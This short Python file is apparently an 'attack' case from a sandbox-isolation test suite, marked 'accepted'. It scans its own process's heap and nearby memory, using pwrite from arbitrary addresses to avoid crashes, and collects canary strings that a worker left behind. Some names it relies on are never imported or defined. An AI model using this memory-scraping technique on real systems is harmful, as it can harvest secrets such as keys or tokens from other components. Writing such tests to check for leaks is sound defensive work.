# /// attack
# tries = "Scan this process's own memory for what the worker may have left in it."
# verdicts = ["accepted"]
# ///
import re

CANARY = re.compile(rb"canary-[0-9a-f]{32}")
STEP = 1 << 16


def areas():
    # Where this process keeps things: the heap, and around objects of every size.
    _libc.sbrk.restype = ctypes.c_void_p
    end = _libc.sbrk(0)
    yield end - (64 << 20), end
    for size in (10, 10_000, 1 << 20, 1 << 24):
        here = id(bytearray(size))
        yield here - (16 << 20), here + (16 << 20)
    here = ctypes.cast(_libc.printf, ctypes.c_void_p).value
    yield here - (4 << 20), here + (4 << 20)


def attack(root, worker):
    scratch, scanned = os.open("/tmp/scratch", os.O_RDWR | os.O_CREAT), 0
    for start, end in areas():
        for place in range(start & -STEP, end, STEP):
            # Writing from a hole fails, without a crash.
            count = _libc.pwrite(scratch, ctypes.c_void_p(place), ctypes.c_size_t(STEP), ctypes.c_long(0))
            if count <= 0:
                continue
            scanned += count
            text = os.pread(scratch, count, 0)
            LOOT.extend(CANARY.findall(text))
    assert scanned > 1 << 20, "nothing could be read at all"
    return LOOT
